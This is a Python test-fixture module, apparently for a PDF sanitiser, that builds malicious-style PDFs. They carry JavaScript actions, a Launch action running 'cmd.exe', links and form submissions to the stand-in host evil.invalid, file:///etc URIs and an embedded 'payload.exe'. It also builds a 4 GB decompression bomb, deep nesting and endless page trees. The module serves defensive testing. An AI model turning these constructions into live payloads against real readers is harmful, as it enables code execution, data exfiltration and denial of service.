"""PDFs that act: each carries one thing that a reader of PDFs would run, fetch or unpack."""

import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name

MARK = "HOSTILE-MARK"  # stands in everything that must not survive


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def with_root(**entries: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    for key, value in entries.items():
        pdf.Root[f"/{key}"] = value
    return saved(pdf)


def with_note(note: Dictionary) -> bytes:
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    note.Type, note.Rect = Name.Annot, Array([0, 0, 100, 100])
    page.obj.Annots = Array([pdf.make_indirect(note)])
    return saved(pdf)


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=f"app.alert('{MARK}')")


def _link(action: Dictionary) -> bytes:
    return with_note(Dictionary(Subtype=Name.Link, A=action))


def _page_action() -> bytes:
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    page.obj.AA = Dictionary(O=_script())
    return saved(pdf)


def _attachment() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.attachments["payload.exe"] = MARK.encode()
    return saved(pdf)


def _attachment_note() -> bytes:
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    file = pdf.make_stream(MARK.encode(), Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F="payload.exe", EF=Dictionary(F=file))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    page.obj.Annots = Array([pdf.make_indirect(note)])
    return saved(pdf)


def _xfa() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    form = pdf.make_stream(f"<xdp:xdp><script>{MARK}</script></xdp:xdp>".encode())
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)
    return saved(pdf)


def _field_script() -> bytes:
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T="name",
            Rect=[0, 0, 50, 10],
            AA=Dictionary(K=_script(), F=_script()),
        )
    )
    page.obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return saved(pdf)


def _chained_script() -> bytes:
    next_action = Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([_script()]))
    return _link(next_action)


def _outside_stream() -> bytes:
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    stream = pdf.make_stream(b"")
    stream["/F"] = Dictionary(Type=Name.Filespec, F=f"\\\\evil.invalid\\{MARK}")
    page.obj.Contents = stream
    return saved(pdf)


def _rich_media() -> bytes:
    content = Dictionary(Assets=Dictionary(Names=Array([f"{MARK}.swf"])))
    return with_note(Dictionary(Subtype=Name.RichMedia, RichMediaContent=content))


def _hidden_in_an_object_stream() -> bytes:
    pdf = pikepdf.open(BytesIO(with_root(OpenAction=_script())))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _polyglot() -> bytes:
    return with_root() + f"<html><script>{MARK}</script></html>PK\x05\x06".encode()


ACTING: dict[str, Callable[[], bytes]] = {
    "open_action_script": lambda: with_root(OpenAction=_script()),
    "document_actions": lambda: with_root(AA=Dictionary(WC=_script())),
    "named_script": lambda: with_root(
        Names=Dictionary(JavaScript=Dictionary(Names=Array([MARK, _script()])))
    ),
    "page_action": _page_action,
    "field_script": _field_script,
    "chained_script": _chained_script,
    "script_link": lambda: _link(_script()),
    "launch": lambda: _link(Dictionary(S=Name.Launch, F=f"cmd.exe /c {MARK}")),
    "launch_on_open": lambda: with_root(
        OpenAction=Dictionary(S=Name.Launch, Win=Dictionary(F=MARK))
    ),
    "remote_goto": lambda: _link(
        Dictionary(S=Name.GoToR, F=f"\\\\evil.invalid\\{MARK}", D=Array([0]))
    ),
    "embedded_goto": lambda: _link(Dictionary(S=Name.GoToE, F=MARK, D=Array([0]))),
    "submit_form": lambda: _link(Dictionary(S=Name.SubmitForm, F=f"http://evil.invalid/{MARK}")),
    "import_data": lambda: _link(Dictionary(S=Name.ImportData, F=f"/etc/{MARK}")),
    "script_uri": lambda: _link(Dictionary(S=Name.URI, URI=f"javascript:{MARK}")),
    "file_uri": lambda: _link(Dictionary(S=Name.URI, URI=f"file:///etc/{MARK}")),
    "attachment": _attachment,
    "attachment_note": _attachment_note,
    "portfolio": lambda: with_root(Collection=Dictionary(Type=Name.Collection, D=MARK)),
    "xfa_form": _xfa,
    "rich_media": _rich_media,
    "sound": lambda: _link(Dictionary(S=Name.Sound, T=MARK)),
    "movie": lambda: with_note(Dictionary(Subtype=Name.Movie, Movie=Dictionary(F=MARK))),
    "stream_from_outside": _outside_stream,
    "hidden_in_an_object_stream": _hidden_in_an_object_stream,
    "html_behind_the_end": _polyglot,
}


def _locked() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return saved(pdf, encryption=pikepdf.Encryption(owner="owner", user="secret", R=6))


def _object_stream_bomb(megabytes: int = 4096) -> bytes:
    """Four gigabytes of blanks in the object stream that holds the catalogue."""
    head = b"1 0 "
    packer = zlib.compressobj(9)
    packed = packer.compress(head + b"<< /Type /Catalog /Pages 2 0 R >>")
    packed += packer.flush(zlib.Z_FULL_FLUSH)
    blanks = packer.compress(b" " * 1024**2) + packer.flush(zlib.Z_FULL_FLUSH)
    return _with_packed_catalogue(packed + blanks * megabytes + packer.flush(), len(head))


def _with_packed_catalogue(packed: bytes, first: int) -> bytes:
    out = b"%PDF-1.5\n"
    offsets = {}
    filled = b"/Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (len(packed), packed)
    for number, body in (
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"),
        (4, b"<< /Type /ObjStm /N 1 /First %d " % first + filled),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = [(0, 0, 65535), (2, 4, 0), *((1, offsets[n], 0) for n in (2, 3, 4)), (1, len(out), 0)]
    table = b"".join(
        kind.to_bytes(1, "big") + at.to_bytes(4, "big") + rest.to_bytes(2, "big")
        for kind, at, rest in rows
    )
    start = len(out)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>" % len(table)
    return out + b"\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (table, start)


def _deep() -> bytes:
    nest = b"[" * 100_000 + b"]" * 100_000
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages "
        + nest
        + b" >>\nendobj\ntrailer << /Root 1 0 R >>"
    )


def _endless_tree() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Count 1 /Kids [2 0 R] >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF"
    )


def _many_pages() -> bytes:
    pdf = pikepdf.new()
    for _ in range(501):
        pdf.add_blank_page(page_size=(72, 72))
    return saved(pdf)


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "locked": (_locked, "locked with a password"),
    "object_stream_bomb": (_object_stream_bomb, "PDF is damaged"),
    "deeply_nested": (_deep, "PDF is damaged"),
    "endless_page_tree": (_endless_tree, "PDF is damaged"),
    "many_pages": (_many_pages, "up to 500 pages"),
    "header_alone": (lambda: b"%PDF-1.7\n", "PDF is damaged"),
    "cut_in_the_middle": (lambda: with_root()[:60], "PDF is damaged"),
    "noise_behind_a_header": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, "PDF is damaged"),
}
